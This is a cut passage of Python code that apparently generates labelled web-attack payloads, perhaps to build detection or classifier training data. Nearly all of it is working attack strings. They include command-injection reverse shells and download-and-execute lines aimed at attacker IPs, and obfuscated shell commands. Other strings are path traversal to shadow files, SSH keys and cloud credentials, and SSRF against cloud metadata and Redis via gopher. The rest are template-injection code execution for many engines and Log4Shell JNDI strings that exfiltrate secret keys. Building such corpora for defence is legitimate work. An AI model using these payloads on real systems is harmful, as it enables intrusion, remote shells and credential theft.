                      f"<iframe srcdoc=\"<script>parent.{fn}</script>\"></iframe>", f"<a href=\"javascript:{fn}\">Click me</a>",
                      f"<img src=\"x\" onerror=\"this.src='//{o}/?'+document.cookie\">", f"<noscript><p title=\"</noscript><img src=x onerror={fn}>\">",
                      f"<table background=\"javascript:{fn}\">", f"<input type=image src=x onerror={fn}>", f"<portal src=//{o}>"])
    return tech, p, m(TEXTY + ["url", "redirect", "lang", "sort"])


# ---------------------------------------------------------------- command injection

def cmdi(r):
    o, ip = oast(r), aip(r)
    c = r.choice(["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "cat /etc/shadow", "ifconfig", "ps aux",
                  "netstat -an", "env", "hostname", "cat /proc/version", "id;pwd", "cat /etc/hosts"])
    pre = r.choice(["", "", "127.0.0.1", "8.8.8.8", "localhost", "google.com", "1", "x", "a.jpg", "192.168.1.1", "example.com"])
    t = r.randrange(12)
    if t == 0:
        tech = "semicolon"
        p = r.choice([f"{pre};{c}", f"{pre}; {c}", f"{pre};{c};", f"{pre}; {c} #", f"{pre};{c}&"])
    elif t == 1:
        tech = "pipe"
        p = r.choice([f"{pre}|{c}", f"{pre} | {c}", f"{pre}||{c}", f"{pre} || {c}", f"|{c}|"])
    elif t == 2:
        tech = "and_chain"
        p = r.choice([f"{pre}&&{c}", f"{pre} && {c}", f"{pre}&{c}&", f"{pre} & {c} &"])
    elif t == 3:
        tech = "backticks"
        p = r.choice([f"{pre}`{c}`", f"`{c}`", f"{pre};`{c}`", f"`nslookup $(whoami).{o}`", f"{pre}`sleep {r.randint(3, 15)}`",
                      f"`curl {o}`", f"`wget -q -O- http://{o}/`"])
    elif t == 4:
        tech = "subshell"
        p = r.choice([f"{pre}$({c})", f"$({c})", f"{pre};$(curl -s http://{o}/$(whoami))", f"$(nslookup {o})",
                      f"{pre}$(sleep {r.randint(3, 15)})", f"$(wget http://{ip}/x.sh -O /tmp/x;sh /tmp/x)",
                      f"{pre}$(ping -c 3 {o})", f"$(dig +short $(id -u).{o})"])
    elif t == 5:
        tech = "newline"
        p = r.choice([f"{pre}\n{c}", f"{pre}\n{c}\n", f"{pre}\r\n{c}", f"%0a{c}", f"{pre}%0a{c}%0a", f"{pre}%0d%0a{c}"])
        return tech, p, m(HOSTISH, pre="%0" in p)
    elif t == 6:
        tech = "ifs_obfuscation"
        p = r.choice([f"{pre};cat${{IFS}}/etc/passwd", f"{pre};cat$IFS$9/etc/shadow", f"{pre};{{cat,/etc/passwd}}",
                      f"{pre};c'a't /e'tc'/pas's'wd", f"{pre};/???/??t /???/p??s??", f"{pre};w'h'o'a'm'i",
                      f"{pre};who$@ami", f"{pre};\\w\\h\\o\\a\\m\\i", f"{pre};$(printf 'id')", f"{pre};cat${{PATH:0:1}}etc${{PATH:0:1}}passwd",
                      f"{pre}|echo${{IFS}}aWQ=|base64${{IFS}}-d|sh", f"{pre};$'\\x69\\x64'", f"{pre};i$()d", f"{pre};X=$'cat\\x20/etc/passwd'&&$X",
                      f"{pre};{{ls,-la,/}}", f"{pre};ca\"\"t /et\"\"c/pa\"\"sswd"])
    elif t == 7:
        tech = "reverse_shell"
        port = r.choice([4444, 1337, 9001, 443, 8443, 53])
        p = r.choice([f"{pre};nc -e /bin/sh {ip} {port}", f"{pre};bash -i >& /dev/tcp/{ip}/{port} 0>&1",
                      f"{pre}|busybox telnetd -l /bin/sh -p {port}", f"{pre};rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
                      f"{pre};python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
                      f"{pre};wget http://{ip}/mips -O /tmp/m;chmod +x /tmp/m;/tmp/m", f"{pre};curl http://{ip}/bot.sh|sh",
                      f"{pre};cd /tmp; tftp -g -r arm7 {ip}; chmod 777 arm7; ./arm7 router", f"{pre};perl -e 'use Socket;$i=\"{ip}\";$p={port};'"])
    elif t == 8:
        tech = "windows"
        p = r.choice([f"{pre}&whoami", f"{pre} & whoami", f"{pre}|type C:\\Windows\\win.ini", f"{pre}&ping -n 10 127.0.0.1",
                      f"{pre}&powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA", f"{pre}|net user", f"{pre}&ipconfig /all",
                      f"{pre}&certutil -urlcache -split -f http://{ip}/a.exe a.exe", f"{pre}| dir C:\\", f"{pre}&&net localgroup administrators",
                      f"{pre}&nslookup {o}", f"{pre}|powershell IEX(New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')",
                      f"{pre}&set", f"{pre}%26whoami", f"{pre}&cmd /c \"type %SYSTEMROOT%\\system32\\drivers\\etc\\hosts\"", f"{pre}^&whoami"])
        return tech, p, m(HOSTISH, pre="%26" in p)
    elif t == 9:
        tech = "argument_injection"
        p = r.choice([f"--output=/var/www/html/shell.php", f"-o /var/www/html/x.php http://{ip}/s.txt", f"-oProxyCommand=curl {o}",
                      f"x -exec sh -c id {{}} ;", f"--upload-pack=touch /tmp/pwned", f"-F x=@/etc/passwd http://{o}/",
                      f"--checkpoint-action=exec=sh shell.sh", f"--to-command=id", f"-OQueueDirectory=/tmp -X/var/www/html/x.php",
                      f"--post-file=/etc/passwd http://{o}/", f"--use-compress-program=id", f"-exec=/bin/sh", f"--config=/dev/stdin",
                      f"-K /etc/passwd", f"--help;id", f"-e /bin/sh", f"--rsh=sh -c 'id>&2'", f"-T /etc/passwd http://{o}",
                      f"--dump-header /var/www/html/h.php"])
        return tech, p, m(["file", "url", "host", "name", "text", "search", "dirpath"])
    elif t == 10:
        tech = "shellshock"
        p = r.choice([f"() {{ :; }}; /bin/bash -c '{c}'", f"() {{ :;}}; echo; /bin/cat /etc/passwd", f"() {{ _; }} >_[$($())] {{ {c}; }}",
                      f"() {{ :; }}; /usr/bin/curl http://{o}/", f"() {{ :; }}; sleep {r.randint(3, 12)}"])
        return tech, p, m(["ua", "text", "name", "referer", "search"])
    else:
        tech = "blind_timing_oob"
        p = r.choice([f"{pre};sleep {r.randint(3, 20)}", f"{pre}|sleep {r.randint(3, 20)}", f"{pre}&&ping -c {r.randint(5, 20)} 127.0.0.1",
                      f"{pre};nslookup {o}", f"{pre}|curl {o}", f"{pre};wget {o}", f"{pre}$(sleep {r.randint(3, 20)})",
                      f"{pre}||ping -c 10 127.0.0.1||", f"{pre};dig {o}", f"{pre};ping -c 1 {o}", f"{pre}&timeout /T {r.randint(5, 15)}"])
    return tech, p, m(HOSTISH + ["dirpath", "search", "username", "text"])


# ---------------------------------------------------------------- traversal / LFI

TARGETS_NIX = ["etc/passwd", "etc/shadow", "etc/hosts", "etc/issue", "proc/self/environ", "proc/self/cmdline",
               "proc/self/status", "var/log/nginx/access.log", "var/log/apache2/access.log", "root/.ssh/id_rsa",
               "root/.bash_history", "home/ubuntu/.aws/credentials", "etc/nginx/nginx.conf", "etc/group", "etc/mysql/my.cnf",
               "var/run/secrets/kubernetes.io/serviceaccount/token", "proc/1/environ", "etc/hostname"]
TARGETS_APP = [".env", "config/database.yml", "wp-config.php", "app/etc/local.xml", ".git/config", ".git/HEAD",
               "WEB-INF/web.xml", "config.php", "application.properties", "settings.py", "appsettings.json",
               ".htpasswd", "composer.json", "config/secrets.yml", "web.config", "storage/logs/laravel.log"]
TARGETS_WIN = ["windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config",
               "windows/repair/sam", "windows/system.ini", "Windows/Panther/Unattend.xml"]


def traversal(r):
    d = r.randint(2, 10)
    nix, app, win = r.choice(TARGETS_NIX), r.choice(TARGETS_APP), r.choice(TARGETS_WIN)
    tgt = r.choice([nix, nix, app])
    t = r.randrange(12)
    pre = False
    if t == 0:
        tech = "dotdot"
        p = r.choice(["../" * d + tgt, "./" + "../" * d + tgt, "../" * d + tgt + r.choice(["", "", ".jpg", ".png", ".html"]),
                      r.choice(["images/", "uploads/", "static/", "templates/", "docs/"]) + "../" * d + tgt, "..//" * d + tgt, "/../" * d + tgt])
    elif t == 1:
        tech = "filter_bypass"
        p = r.choice(["....//" * d + tgt, "..././" * d + tgt, "....\\/" * d + tgt, ".../.../" + "../" * d + tgt,
                      "..;/" * d + tgt, "/./" * 3 + "../" * d + tgt, "..\\/..\\/" * (d // 2 + 1) + tgt, "%2e%2e/" * d + tgt])
        pre = "%" in p
    elif t == 2:
        tech = "encoded"
        p = r.choice(["..%2f" * d + tgt.replace("/", "%2f"), "%2e%2e%2f" * d + tgt, "%2e%2e/" * d + tgt, "..%252f" * d + tgt,
                      "%252e%252e%252f" * d + tgt, ".%2e/" * d + tgt, "%2e%2e%5c" * d + tgt.replace("/", "%5c"), "/.%2e/.%2e/.%2e/" + tgt])
        pre = True
    elif t == 3:
        tech = "overlong_unicode"
        p = r.choice(["..%c0%af" * d + tgt, "%c0%ae%c0%ae/" * d + tgt, "%c0%ae%c0%ae%c0%af" * d + tgt, "..%u2215" * d + tgt.replace("/", "%u2215"),
                      "..%ef%bc%8f" * d + tgt, "%uff0e%uff0e/" * d + tgt, "..%e0%80%af" * d + tgt, "..%c1%9c" * d + tgt, "%u002e%u002e%u2216" * d + tgt])
        pre = True
    elif t == 4:
        tech = "windows"
        p = r.choice(["..\\" * d + win.replace("/", "\\"), "..%5c" * d + win.replace("/", "%5c"), "C:\\" + win.replace("/", "\\"),
                      "c:/" + win, "..\\..\\..\\..\\" + "inetpub\\logs\\LogFiles\\W3SVC1\\u_ex230101.log", "\\\\?\\C:\\" + win.replace("/", "\\"),
                      "..%255c" * d + win, "file:///C:/" + win])
        pre = "%" in p
    elif t == 5:
        tech = "absolute"
        p = r.choice(["/" + nix, "/" + nix, "//" + nix, "/var/www/html/" + app, "/" + nix + "%00", "\\" + nix.replace("/", "\\"),
                      "/proc/self/fd/" + str(r.randint(0, 12)), "/dev/fd/0", "file:///" + nix, "/srv/app/" + app])
        pre = "%00" in p
    elif t == 6:
        tech = "php_wrapper"
        res = r.choice(["index.php", "config.php", "../config.php", "/etc/passwd", "admin/db.php", "wp-config.php", "includes/settings.inc.php"])
        p = r.choice([f"php://filter/convert.base64-encode/resource={res}", f"php://filter/read=string.rot13/resource={res}",
                      f"php://filter/convert.iconv.utf-8.utf-16/resource={res}", "php://input", "expect://id", "expect://ls",
                      "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", "data:text/plain,<?php phpinfo(); ?>",
                      "zip://uploads/avatar.jpg%23shell.php", "phar://uploads/avatar.jpg/x.php", f"php://filter/zlib.deflate/convert.base64-encode/resource={res}",
                      "compress.zlib:///etc/passwd", "glob:///var/www/*", "php://fd/3"])
        pre = "%" in p
    elif t == 7:
        tech = "null_byte"
        ext = r.choice([".png", ".jpg", ".html", ".php", ".pdf", ".txt", ".tpl"])
        p = r.choice(["../" * d + tgt + "%00" + ext, "../" * d + tgt + "\x00" + ext, "../" * d + tgt + "%2500" + ext,
                      "/" + nix + "%00", "..%2f" * d + tgt + "%00" + ext])
        pre = "%" in p
    elif t == 8:
        tech = "log_proc_poisoning"
        p = r.choice(["../" * d + "var/log/apache2/access.log", "../" * d + "proc/self/environ", "/var/log/auth.log",
                      "../" * d + "var/log/mail.log", "/proc/self/fd/" + str(r.randint(2, 20)), "../" * d + "tmp/sess_" + sub(r),
                      "/var/lib/php/sessions/sess_" + sub(r), "../" * d + "var/log/vsftpd.log"])
    elif t == 9:
        tech = "java_web"
        p = r.choice(["../" * d + "WEB-INF/web.xml", "..;/" * 2 + "WEB-INF/web.xml", "/WEB-INF/classes/application.properties",
                      "..%2f" * 2 + "WEB-INF%2fweb.xml", "/META-INF/MANIFEST.MF", "../" * d + "WEB-INF/classes/hibernate.cfg.xml",
                      "classpath:../../WEB-INF/web.xml", "/..;/manager/html", "....//WEB-INF/web.xml"])
        pre = "%" in p
    elif t == 10:
        tech = "dotfiles"
        p = r.choice(["../" * r.randint(1, 4) + ".env", "../.git/config", "../../.git/HEAD", "~/.ssh/id_rsa", "../" * d + ".aws/credentials",
                      "/.svn/entries", "../.htaccess", "../../.DS_Store", "../" * d + ".docker/config.json", "~root/.bash_history",
                      "../../.npmrc", "../config/master.key"])
    else:
        tech = "unc_share"
        h = r.choice([aip(r), oast(r)])
        p = r.choice([f"\\\\{h}\\share\\x.txt", f"//{h}/share/a", f"\\\\{h}\\c$\\windows\\win.ini", f"file://{h}/share/f"])
    return tech, p, m(FILEISH + ["file", "dirpath", "template", "url"], pre=pre)


# ---------------------------------------------------------------- SSRF

INTERNAL_PATHS = ["/", "/admin", "/server-status", "/actuator/env", "/actuator/heapdump", "/_cat/indices", "/v1/agent/self",
                  "/containers/json", "/api/v1/namespaces/kube-system/secrets", "/v2/keys", "/metrics", "/debug/pprof/",
                  "/console", "/manager/html", "/.env", "/jolokia/list", "/admin/config", "/status?full", "/stats", "/info"]


def ssrf(r):
    ip_spellings_lo = ["127.0.0.1", "localhost", "127.1", "127.0.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0177.0.0.1",
                       "017700000001", "0x7f.0x0.0x0.0x1", "[::1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[::ffff:7f00:1]",
                       "localhost.localdomain", "127.127.127.127", "0177.1", "①②⑦.⓪.⓪.①", "LOCALHOST", "[0000::1]",
                       "127.0.0.1.nip.io", "127.0.0.1.sslip.io", "localtest.me", "7f000001.c0a80001.rbndr.us",
                       "make-127-0-0-1-rr.1u.ms", "spoofed." + r.choice(["burpcollaborator.net", "oastify.com"]), "127.000.000.001"]
    priv = ["10.0.0.1", "10.0.0.5:8500", "192.168.0.1", "192.168.1.254", "172.17.0.1:2375", "172.16.0.10:9200", "10.10.1.20:8080",
            "kubernetes.default.svc", "kubernetes.default.svc.cluster.local:443", "172.31.0.2", "10.96.0.1", "redis:6379",
            "internal-api.local", "consul.service.consul:8500", "192.168.99.100:2376", "100.64.0.1"]
    port = r.choice(["", "", "", ":80", ":8080", ":22", ":25", ":6379", ":3306", ":9200", ":11211", ":8500", ":2379", ":5984", ":10250", ":8081"])
    sch = r.choice(["http://", "http://", "https://", "HTTP://", "http:/", "//"])
    t = r.randrange(9)
    pre = False
    if t == 0:
        tech = "loopback"
        p = sch + r.choice(ip_spellings_lo[:6]) + port + r.choice(INTERNAL_PATHS)
    elif t == 1:
        tech = "ip_obfuscation"
        p = sch + r.choice(ip_spellings_lo[6:20]) + port + r.choice(INTERNAL_PATHS)
    elif t == 2:
        tech = "dns_rebinding_wildcard"
        p = sch + r.choice(ip_spellings_lo[20:] + ["169.254.169.254.nip.io", "10.0.0.1.xip.io", "192.168.1.1.nip.io",
                                                     "a9fea9fe.7f000001.rbndr.us", "metadata.google.internal.nip.io"]) + port + r.choice(INTERNAL_PATHS)
    elif t == 3:
        tech = "private_network"
        p = sch + r.choice(priv) + r.choice(INTERNAL_PATHS)
    elif t == 4:
        tech = "cloud_metadata"
        p = r.choice(["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/user-data",
                      "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/api/token",
                      "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
                      "http://metadata/computeMetadata/v1/?recursive=true", "http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
                      "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
                      "http://100.100.100.200/latest/meta-data/", "http://169.254.170.2/v2/credentials/" + sub(r), "http://192.0.0.192/latest/",
                      "http://169.254.169.254/metadata/v1.json", "http://[fd00:ec2::254]/latest/meta-data/", "http://instance-data/latest/meta-data/",
                      "http://169.254.169.254/opc/v2/instance/", "http://169.254.169.254/hetzner/v1/metadata", "http://169.254.169.254/openstack/latest/meta_data.json",
                      "http://169.254.169.254/latest/meta-data/iam/security-credentials/" + r.choice(["ec2-role", "admin", "s3-access", "EKSNodeRole"])])
    elif t == 5:
        tech = "metadata_obfuscated"
        p = "http://" + r.choice(["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "0xA9.0xFE.0xA9.0xFE",
                                  "[::ffff:a9fe:a9fe]", "[::ffff:169.254.169.254]", "169.254.169.254.nip.io", "0251.254.169.254",
                                  "425.510.425.510", "169.0xfe.169.254", "⑯⑨。②⑤④。⑯⑨。②⑤④"]) + r.choice(["/latest/meta-data/", "/latest/user-data", "/computeMetadata/v1/", "/metadata/instance"])
    elif t == 6:
        tech = "scheme"
        p = r.choice(["gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$30%0d%0a%0a%0a*/1 * * * * bash -i%0a%0a%0d%0a",
                      "gopher://localhost:25/_HELO%20localhost%0d%0aMAIL%20FROM%3A%3Ca%40x%3E", "gopher://127.0.0.1:3306/_%a3%00%00%01%85%a6%ff%01",
                      "dict://127.0.0.1:11211/stats", "dict://localhost:6379/info", "file:///etc/passwd", "file://C:/Windows/win.ini",
                      "file:///proc/self/environ", "ftp://127.0.0.1:21/", "ldap://127.0.0.1:389/%0astats%0aquit", f"tftp://{aip(r)}:69/x",
                      "jar:http://127.0.0.1!/", "netdoc:///etc/passwd", f"sftp://{oast(r)}:11111/", "gopher://169.254.169.254:80/_GET%20/latest/meta-data/%20HTTP/1.0%0d%0a",
                      "file://localhost/etc/shadow", "dict://127.0.0.1:2379/version", "gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00"])
        pre = "%" in p
    elif t == 7:
        tech = "parser_confusion_redirect"
        allowed = r.choice(["cdn.example.com", "images.example.com", "trusted.example.org", "s3.amazonaws.com"])
        p = r.choice([f"http://{allowed}@127.0.0.1{port}/", f"http://127.0.0.1#@{allowed}/", f"http://{allowed}.127.0.0.1.nip.io/",
                      f"https://{allowed}/redirect?url=http://169.254.169.254/latest/meta-data/", f"http://{oast(r)}/302?to=http://127.0.0.1/admin",
                      f"http://127.0.0.1%2523@{allowed}/", f"http://{allowed}%40127.0.0.1/", f"http://127.0.0.1:80\\@{allowed}/",
                      f"http://{allowed}&@127.0.0.1#@{allowed}/", f"https://{allowed}/..;/..;/?next=http://10.0.0.1/",
                      f"http://[::1]#{allowed}", f"http://0/{allowed}"])
        pre = "%25" in p or "%40" in p
    else:
        tech = "oob_probe"
        p = r.choice([f"http://{oast(r)}/", f"https://{oast(r)}/ssrf", f"http://{oast(r)}", f"//{oast(r)}/x.png", f"http://{aip(r)}:{r.choice([80, 8000, 4444])}/"])
    return tech, p, m(URLISH + ["url", "host", "callback", "file"], pre=pre)


# ---------------------------------------------------------------- SSTI

def ssti(r):
    c = r.choice(["id", "whoami", "cat /etc/passwd", "uname -a", "ls", "curl " + oast(r)])
    a, b = r.randint(7, 99), r.randint(7, 99)
    t = r.randrange(10)
    if t == 0:
        tech = "jinja2"
        p = r.choice([f"{{{{{a}*{b}}}}}", f"{{{{{a}*'{b}'}}}}", "{{config.items()}}", "{{config}}",
                      f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').popen('{c}').read() }}}}",
                      "{{''.__class__.__mro__[1].__subclasses__()}}", f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{c}').read()}}}}",
                      f"{{{{cycler.__init__.__globals__.os.popen('{c}').read()}}}}", f"{{{{lipsum.__globals__['os'].popen('{c}').read()}}}}",
                      f"{{%print({a}*{b})%}}", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
                      "{{ get_flashed_messages.__globals__ }}", f"{{{{ joiner.__init__.__globals__.os.popen('{c}').read() }}}}",
                      "{{ ''.__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}", f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{% if 'warning' in x.__name__ %}}{{{{x()._module.__builtins__['__import__']('os').popen('{c}').read()}}}}{{%endif%}}{{%endfor%}}",
                      "{{ url_for.__globals__['current_app'].config }}", "{{namespace.__init__.__globals__.os.environ}}"])
    elif t == 1:
        tech = "twig"
        p = r.choice([f"{{{{{a}*{b}}}}}", f"{{{{_self.env.registerUndefinedFilterCallback(\"exec\")}}}}{{{{_self.env.getFilter(\"{c}\")}}}}",
                      f"{{{{['{c}']|filter('system')}}}}", f"{{{{['{c}']|map('system')|join}}}}", "{{app.request.server.all|join(',')}}",
                      f"{{{{['{c}',1]|sort('passthru')}}}}", "{{dump(app)}}", "{{_self.env.setCache(\"ftp://" + aip(r) + ":2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
                      f"{{{{ {{'/etc/passwd':1}}|keys|map('file_get_contents')|join }}}}"])
    elif t == 2:
        tech = "freemarker"
        p = r.choice([f"${{{a}*{b}}}", f"<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${{ ex(\"{c}\") }}",
                      f"${{\"freemarker.template.utility.Execute\"?new()(\"{c}\")}}", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
                      f"[#assign ex='freemarker.template.utility.Execute'?new()]${{ ex('{c}')}}", "<#assign classloader=object?api.class.protectionDomain.classLoader>",
                      f"${{{a}*{b}}}#{{{a}*{b}}}"])
    elif t == 3:
        tech = "velocity"
        p = r.choice([f"#set($x={a}*{b})${{x}}", f"#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"{c}\")",
                      f"$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"{c}\").waitFor()", "#set($str=$class.inspect(\"java.lang.String\").type)",
                      f"#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end", f"$!{{x.class.forName('java.lang.Runtime').getRuntime().exec('{c}')}}"])
    elif t == 4:
        tech = "erb"
        p = r.choice([f"<%= {a}*{b} %>", f"<%= system('{c}') %>", f"<%= `{c}` %>", "<%= File.open('/etc/passwd').read %>",
                      f"<%= IO.popen('{c}').readlines() %>", "<%= Dir.entries('/') %>", f"<%= %x({c}) %>", f"#{{ `{c}` }}", f"<%= eval(\"`{c}`\") %>"])
    elif t == 5:
        tech = "spel_thymeleaf_ognl"
        p = r.choice([f"__${{T(java.lang.Runtime).getRuntime().exec('{c}')}}__::.x", f"${{T(java.lang.Runtime).getRuntime().exec('{c}')}}",
                      "*{T(java.lang.System).getenv()}", f"#{{{a}*{b}}}", f"[[${{{a}*{b}}}]]", f"${{#rt = @java.lang.Runtime@getRuntime(),#rt.exec(\"{c}\")}}",
                      f"%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='{c}').(#p=new java.lang.ProcessBuilder({{'/bin/sh','-c',#cmd}})).(#p.start())}}",
                      f"${{(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"{c}\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd\",#a))}}",
                      "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
                      "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}", f"%{{{a}*{b}}}",
                      "${applicationScope}", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"])
    elif t == 6:
        tech = "handlebars_js"
        p = r.choice(["{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
                      f"{{{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{c}')\")()}}}}",
                      f"#{{function(){{localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('{c}')}}()}}",
                      f"<%= global.process.mainModule.require('child_process').execSync('{c}') %>", "{{this.constructor.constructor('return process.env')()}}",
                      f"${{{a}*{b}}}", f"{{{{#each (lookup this 'constructor')}}}}{{{{/each}}}}", f"= {a}*{b}", "{{lookup (lookup this 'constructor') 'name'}}"])
    elif t == 7:
        tech = "smarty"
        p = r.choice(["{$smarty.version}", f"{{php}}echo `{c}`;{{/php}}", f"{{system('{c}')}}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
                      "{if phpinfo()}{/if}", f"{{{a}*{b}}}", "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{$smarty.version}')}", f"{{if system('{c}')}}{{/if}}"])
    elif t == 8:
        tech = "python_other"
        p = r.choice([f"${{self.module.cache.util.os.system(\"{c}\")}}", f"{{% import os %}}{{{{os.popen(\"{c}\").read()}}}}",
                      f"<%import os%>${{os.popen('{c}').read()}}", "${{<%[%'\"}}%\\.", f"{{{{{a}*{b}}}}}[[{a}*{b}]]${{{a}*{b}}}<%= {a}*{b} %>",
                      f"{{{{ ''.__class__.__mro__[2].__subclasses__() }}}}", f"{{{{{a}|add:{b}}}}}", "{% debug %}", "{{settings.SECRET_KEY}}",
                      "{{ request.environ }}", "{{.}}{{printf \"%v\" .}}"])
    else:
        tech = "razor_dotnet"
        p = r.choice([f"@({a}*{b})", f"@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c {c}\")", "@{ var x = System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"); }@x",
                      f"@(1+{a})", "@System.Environment.GetEnvironmentVariables()", "@Html.Raw(System.IO.File.ReadAllText(\"web.config\"))"])
    return tech, p, m(TEXTY + ["template", "email", "lang"])


# ---------------------------------------------------------------- Log4Shell / JNDI

def jndi(r):
    o, ip = oast(r), aip(r)
    path = r.choice(["a", "x", "Exploit", "Basic/Command/Base64/aWQ=", sub(r), "o=tomcat", "log4j", "jndi", "#Exploit"])
    proto = r.choice(["ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http"])
    host = r.choice([o, o, f"{ip}:1389", f"{ip}:1099", o + ":443"])
    t = r.randrange(8)
    if t == 0:
        tech = "plain"
        p = f"${{jndi:{proto}://{host}/{path}}}"
    elif t == 1:
        tech = "lower_upper"
        p = r.choice([f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{host}/{path}}}",
                      f"${{${{upper:j}}${{upper:n}}${{upper:d}}${{upper:i}}:{proto}://{host}/{path}}}",
                      f"${{jndi:${{lower:l}}${{lower:d}}${{lower:a}}${{lower:p}}://{host}/{path}}}",
                      f"${{${{lower:jndi}}:${{lower:rmi}}://{host}/{path}}}", f"${{${{lower:${{lower:jndi}}}}:${{lower:ldap}}://{host}/{path}}}"])
    elif t == 2:
        tech = "default_value"
        p = r.choice([f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{host}/{path}}}",
                      f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{host}/{path}}}",
                      f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://{host}/{path}}}", f"${{${{::-j}}ndi:{proto}://{host}/{path}}}",
                      f"${{jnd${{123%25ff:-i}}:{proto}://{host}/{path}}}", f"${{${{env:BARFOO:-j}}ndi${{env:BARFOO:-:}}${{env:BARFOO:-l}}dap${{env:BARFOO:-:}}//{host}/{path}}}",
                      f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{host}/{path}}}",
                      f"${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:{proto}://{host}/{path}}}",
                      f"${{j${{main:\\k5:-Nd}}i${{spring:k5:-:}}ldap://{host}/{path}}}", f"${{j${{::-n}}di:{proto}://{host}/{path}}}"])
    elif t == 3:
        tech = "exfil_lookup"
        v = r.choice(["${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${hostName}", "${env:USER}", "${java:version}",
                      "${sys:user.name}", "${env:AWS_ACCESS_KEY_ID}", "${main:0}", "${env:HOSTNAME}", "${java:os}"])
        p = r.choice([f"${{jndi:ldap://{v}.{o}/{path}}}", f"${{jndi:dns://{v}.{o}}}", f"${{jndi:{proto}://{o}/{v}}}",
                      f"${{jndi:ldap://{o}/{v}/{path}}}"])
    elif t == 4:
        tech = "bypass_host"
        p = r.choice([f"${{jndi:ldap://127.0.0.1#{o}:1389/{path}}}", f"${{jndi:ldap://{o}:1389/${{::-}}{path}}}",
                      f"${{${{::-$}}{{jndi:{proto}://{host}/{path}}}}}", f"${{jndi:{proto}:/{host}/{path}}}",
                      f"${{jndi:ldap:${{::-/}}/{host}/{path}}}", f"$%7Bjndi:ldap://{host}/{path}%7D"])
        return tech, p, m(None, pre="%7B" in p)
    elif t == 5:
        tech = "unicode_escaped"
        p = r.choice([f"${{\\u006a\\u006e\\u0064\\u0069:ldap://{host}/{path}}}", f"\\u0024\\u007bjndi:{proto}://{host}/{path}\\u007d",
                      f"${{\\u006Andi:{proto}://{host}/{path}}}"])
    elif t == 6:
        tech = "other_lookup"
        p = r.choice(["${env:AWS_SECRET_ACCESS_KEY}", "${sys:user.dir}", "${env:DB_PASSWORD}", "${ctx:loginId}", "${java:runtime}",
